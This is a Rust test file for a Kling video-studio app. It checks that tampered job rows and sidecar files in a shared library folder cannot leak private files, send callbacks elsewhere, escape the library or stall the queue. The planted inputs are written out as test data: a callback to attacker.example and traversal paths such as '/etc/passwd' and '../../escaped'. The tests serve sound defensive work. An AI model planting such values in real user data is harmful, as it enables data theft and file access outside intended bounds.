//! The library's own files are input (issue 12): a folder that is synced or shared can hold rows
//! planted by someone else. A planted job may not send the person's pictures or files elsewhere,
//! may not have Kling report to another server, and may not stop the queue.

use kling_api::{ClientConfig, Credentials, ImageRequest, KlingClient, RetryPolicy, TextToVideoRequest};
use kling_sim::{Sim, SimConfig};
use std::sync::Arc;
use std::time::Duration;
use studio::{Engine, EngineConfig, Item, ItemKind, JobRequest, JobState, Library, LibraryError, NewJob, Sidecar};

const AK: &str = "planted-ak";
const SK: &str = "planted-sk";

fn engine(sim: &Sim, library: &Arc<Library>) -> Engine {
    let mut config = ClientConfig::new(sim.url(), Credentials::new(AK, SK));
    config.retry = RetryPolicy { max_retries: 1, base_delay: Duration::from_millis(5), max_delay: Duration::from_millis(10) };
    Engine::new(library.clone(), KlingClient::new(config).unwrap(), EngineConfig { lease: Duration::from_millis(300), ..EngineConfig::fast() })
}

fn index(root: &std::path::Path) -> rusqlite::Connection {
    rusqlite::Connection::open(root.join(".kling-studio/index.sqlite")).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn planted_job_rows_send_nothing_of_theirs_and_stop_nothing() {
    let sim = Sim::start(SimConfig::fast(AK, SK)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Arc::new(Library::open(&root).unwrap());
    // A private picture outside the library that a planted row points at.
    let private = dir.path().join("private.png");
    image::RgbImage::from_pixel(400, 400, image::Rgb([9, 9, 9])).save(&private).unwrap();

    let engine = engine(&sim, &library);
    let hooked = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("a hooked clip") }).unwrap();
    let stolen = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("a stolen picture") }).unwrap();
    let honest = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("an honest clip") }).unwrap();
    {
        let db = index(&root);
        // A callback to someone else's server, planted into a stored request.
        let request: String = db.query_row("SELECT request FROM jobs WHERE id = ?1", [&hooked.id], |r| r.get(0)).unwrap();
        let planted = request.replace(r#""prompt":"a hooked clip""#, r#""prompt":"a hooked clip","callback_url":"https://attacker.example/hook""#);
        assert_ne!(planted, request);
        db.execute("UPDATE jobs SET request = ?2 WHERE id = ?1", [&hooked.id, &planted]).unwrap();
        // An animation whose start frame is a file outside the library.
        let animate = format!(r#"{{"schema":2,"kind":"image2video","request":{{"model_name":"kling-v1"}},"image":{:?}}}"#, private.display().to_string());
        db.execute("UPDATE jobs SET kind = 'image2video', request = ?2, image_ref = ?3 WHERE id = ?1", [&stolen.id, &animate, &private.display().to_string()]).unwrap();
        // A row whose id would name files elsewhere.
        db.execute(
            "INSERT INTO jobs (id, kind, state, request, created_at, updated_at) SELECT '../../escaped', kind, 'queued', request, created_at, updated_at FROM jobs WHERE id = ?1",
            [&honest.id],
        )
        .unwrap();
    }

    let ids = [hooked.id.clone(), honest.id.clone()];
    let jobs = tokio::time::timeout(Duration::from_secs(30), engine.run_until_finished(&ids)).await.expect("the queue is not stopped by planted rows").unwrap();
    let state = |id: &str| jobs.iter().find(|j| j.id == id).map(|j| j.state);
    assert_eq!(state(&hooked.id), Some(JobState::Done), "the hooked job runs, without its hook");
    assert_eq!(state(&honest.id), Some(JobState::Done));
    let creates: Vec<serde_json::Value> = sim.requests().into_iter().filter(|r| r.method == "POST").filter_map(|r| r.body).collect();
    assert!(creates.iter().all(|b| b.get("callback_url").is_none()), "no callback_url went out: {creates:?}");
    assert!(creates.iter().all(|b| b.get("image").is_none()), "the private picture was not uploaded");
    assert_eq!(creates.len(), 2, "the planted animation and the escaped id sent nothing");
    let db = index(&root);
    let (stolen_state, stolen_error): (String, String) =
        db.query_row("SELECT state, last_error FROM jobs WHERE id = ?1", [&stolen.id], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    assert_eq!(stolen_state, "failed");
    assert!(stolen_error.contains("unreadable") && stolen_error.contains("not a library input"), "{stolen_error}");
    let escaped: String = db.query_row("SELECT state FROM jobs WHERE id = '../../escaped'", [], |r| r.get(0)).unwrap();
    assert_eq!(escaped, "failed", "set aside, never run");
    assert!(!dir.path().join("escaped-0.part").exists() && !root.join("escaped-0.part").exists());
    // The queue panel lists the readable jobs, not the planted one.
    assert!(engine.jobs(50).unwrap().iter().all(|j| j.id != "../../escaped" && j.id != stolen.id));
    let asked = engine.job(&stolen.id).expect_err("the planted job is not read as a job");
    assert!(asked.to_string().contains("not a library input"), "{asked}");
}

/// A stored job listing more results than a task makes (here three for one clip) fetches none
/// of them: at most 9 pictures or 1 video per task (issue 12, item 3).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_job_with_more_results_than_a_task_makes_fetches_none() {
    let sim = Sim::start(SimConfig::fast(AK, SK)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Arc::new(Library::open(&root).unwrap());
    let engine = engine(&sim, &library);
    let job = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("three clips from one task") }).unwrap();
    let links: Vec<String> = (0..3).map(|i| format!("{}/media/planted/{i}.mp4", sim.url())).collect();
    index(&root)
        .execute(
            "UPDATE jobs SET state = 'downloading', task_id = '860000000000000001', result_urls = ?2 WHERE id = ?1",
            [&job.id, &serde_json::to_string(&links).unwrap()],
        )
        .unwrap();

    let jobs = tokio::time::timeout(Duration::from_secs(30), engine.run_until_finished(std::slice::from_ref(&job.id))).await.expect("ends in time").unwrap();
    assert_eq!(jobs[0].state, JobState::Failed);
    let shown = jobs[0].last_error.clone().unwrap_or_default();
    assert!(shown.contains("the task lists 3 results, but a task makes at most 1 video; nothing was downloaded"), "{shown}");
    assert_eq!(jobs[0].last_error_code, Some(kling_api::ErrorCode::Malformed));
    assert!(sim.requests().iter().all(|r| !r.path.starts_with("/media")), "no link was fetched");
    assert!(library.query(&Default::default()).unwrap().items.is_empty());
}

#[test]
fn library_paths_from_its_own_files_stay_inside_it() {
    let dir = tempfile::tempdir().unwrap();
    let library = Library::open(dir.path()).unwrap();
    for planted in ["/etc/passwd", "../outside.png", "2026-11/../../outside.png", "", "a//b"] {
        let refused = library.absolute(planted).expect_err(planted);
        assert!(matches!(refused, LibraryError::OutsidePath { .. }) && refused.to_string().contains("outside itself"), "{planted:?}: {refused}");
        assert_eq!(refused.code(), kling_api::ErrorCode::LibraryIndex);
    }
    assert_eq!(library.absolute("2026-11/a_1.png").unwrap(), dir.path().join("2026-11/a_1.png"));
}

fn picture_result(library: &Library, task_id: &str, image: &str) -> Item {
    let request = ImageRequest { n: Some(1), ..ImageRequest::new(format!("a fox for {task_id}")) };
    let sidecar = Sidecar {
        version: studio::library::sidecar_version(),
        kind: ItemKind::Image,
        task_id: task_id.into(),
        index: 0,
        external_task_id: None,
        model: "kling-v1".into(),
        prompt: request.prompt.clone(),
        negative_prompt: String::new(),
        request: JobRequest::Image { request, image: Some(image.into()) },
        created_at: 1_764_000_000_000,
        finished_at: 1_764_000_005_000,
        original_url: None,
        width: Some(64),
        height: Some(64),
        duration_secs: None,
        ext: "png".into(),
        favorite: false,
        tags: vec!["kept".into()],
        charged_units: None,
        watermarked: false,
        made_from: Vec::new(),
        video_id: None,
        wav_copy: false,
    };
    let tmp = library.tmp_dir().join(format!("{task_id}.part"));
    image::RgbImage::from_pixel(64, 64, image::Rgb([1, 2, 3])).save_with_format(&tmp, image::ImageFormat::Png).unwrap();
    library.add(&tmp, &sidecar).unwrap()
}

/// A sidecar whose input picture names a file outside the library: the reference is refused
/// (reported once by the scan) and the item keeps its prompt, tags and everything else.
#[test]
fn planted_sidecar_picture_paths_are_refused_and_the_item_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Library::open(&root).unwrap();
    let private = dir.path().join("private.png");
    image::RgbImage::from_pixel(8, 8, image::Rgb([9, 9, 9])).save(&private).unwrap();
    let honest = "inputs/04869bd6c46cc8ca0e836c4f.png";
    let planted = ["../../etc/passwd", private.to_str().unwrap(), "inputs/../private.png", "inputs/04869bd6c46cc8ca0e836c4f.png/.."];
    let mut items = Vec::new();
    for (n, bad) in planted.iter().enumerate() {
        let item = picture_result(&library, &format!("planted{n}"), honest);
        let path = library.absolute(item.sidecar_path.as_deref().unwrap()).unwrap();
        let json = std::fs::read_to_string(&path).unwrap().replace(&format!("{honest:?}"), &format!("{bad:?}"));
        assert!(json.contains(&format!("{bad:?}")));
        std::fs::write(&path, json).unwrap();
        items.push(item);
    }
    let kept = picture_result(&library, "honest", honest);

    let report = library.rebuild().unwrap();
    assert_eq!(report.warnings.len(), planted.len(), "one line per planted sidecar: {:?}", report.warnings);
    for (item, bad) in items.iter().zip(planted) {
        let shown = format!("{bad:?}");
        assert!(report.warnings.iter().any(|w| w.contains("refused its image") && w.contains(&shown) && w.contains("kept without it")), "{bad}: {:?}", report.warnings);
        let again = library.get(&item.id).expect("the item is still in the gallery, from its sidecar");
        assert_eq!((again.kind, again.prompt.as_str()), (ItemKind::Image, item.prompt.as_str()));
        assert_eq!(library.tags(&item.id).unwrap(), vec!["kept".to_string()]);
        let sidecar = library.sidecar(&item.id).unwrap().expect("its sidecar still reads");
        assert_eq!(sidecar.source_image(), None, "{bad}");
    }
    assert_eq!(library.sidecar(&kept.id).unwrap().unwrap().source_image(), Some(honest), "an honest reference is kept");
}

/// An index row whose file path leads outside the library: every use of it is refused with
/// the typed error, nothing outside is read or moved to the trash, and a rescan drops the row.
#[test]
fn planted_index_paths_are_refused_with_a_typed_error() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Library::open(&root).unwrap();
    let outside = dir.path().join("outside.png");
    image::RgbImage::from_pixel(8, 8, image::Rgb([9, 9, 9])).save(&outside).unwrap();
    let item = picture_result(&library, "row", "inputs/04869bd6c46cc8ca0e836c4f.png");
    index(&root).execute("UPDATE items SET rel_path = '../outside.png', sidecar_path = '/etc/passwd' WHERE id = ?1", [&item.id]).unwrap();

    let thumb = library.thumbnail(&item.id).expect_err("no thumbnail of a file outside");
    assert!(matches!(thumb, LibraryError::OutsidePath { .. }), "{thumb}");
    let sidecar = library.sidecar(&item.id).expect_err("no sidecar read outside");
    assert!(matches!(sidecar, LibraryError::OutsidePath { .. }), "{sidecar}");
    let favourite = library.set_favorite(&item.id, true).expect_err("no sidecar written outside");
    assert!(matches!(favourite, LibraryError::OutsidePath { .. }), "{favourite}");
    let deleted = library.delete(std::slice::from_ref(&item.id)).expect_err("nothing outside goes to the trash");
    assert!(matches!(deleted, LibraryError::OutsidePath { .. }), "{deleted}");
    assert!(outside.is_file() && library.thumbs_dir().read_dir().unwrap().next().is_none());
    assert!(root.join(&item.rel_path).is_file(), "the real result is still there");
    library.rescan().unwrap();
    assert!(library.get(&item.id).is_ok_and(|i| i.rel_path == item.rel_path), "a rescan restores the row from the folder");
}

/// A planted lip-sync whose sound is a file outside the library (a private recording) is set
/// aside: nothing is read from it, nothing is sent, and the queue runs on (issue 13).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_planted_sound_outside_the_library_is_set_aside() {
    let sim = Sim::start(SimConfig::fast(AK, SK)).await.unwrap();
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("library");
    let library = Arc::new(Library::open(&root).unwrap());
    let private = dir.path().join("voice-memo.mp3");
    std::fs::copy(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/tone-440hz-1s.mp3"), &private).unwrap();

    let engine = engine(&sim, &library);
    let planted = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("to be replaced") }).unwrap();
    let honest = engine.enqueue(NewJob::TextToVideo { request: TextToVideoRequest::new("an honest clip") }).unwrap();
    {
        let db = index(&root);
        let lip_sync = format!(
            r#"{{"schema":2,"kind":"lip-sync","request":{{"session_id":"s-1","face_choose":[{{"face_id":"0","sound_start_time":0,"sound_end_time":2000,"sound_insert_time":0}}]}},"sound_file":{:?}}}"#,
            private.display().to_string()
        );
        db.execute("UPDATE jobs SET kind = 'lip-sync', request = ?2 WHERE id = ?1", [&planted.id, &lip_sync]).unwrap();
    }
    let jobs = tokio::time::timeout(Duration::from_secs(30), engine.run_until_finished(std::slice::from_ref(&honest.id))).await.expect("the queue runs on").unwrap();
    assert_eq!(jobs[0].state, JobState::Done);
    let creates: Vec<String> = sim.requests().into_iter().filter(|r| r.method == "POST").map(|r| r.path).collect();
    assert!(creates.iter().all(|p| !p.contains("lip-sync")), "nothing of the planted row went out: {creates:?}");
    let db = index(&root);
    let (state, error): (String, String) = db.query_row("SELECT state, last_error FROM jobs WHERE id = ?1", [&planted.id], |r| Ok((r.get(0)?, r.get(1)?))).unwrap();
    assert_eq!(state, "failed", "set aside, never run");
    assert!(error.contains("sound reference") && error.contains("not a library input"), "{error}");
    assert!(!root.join("inputs").exists(), "the private sound was not copied in");
}
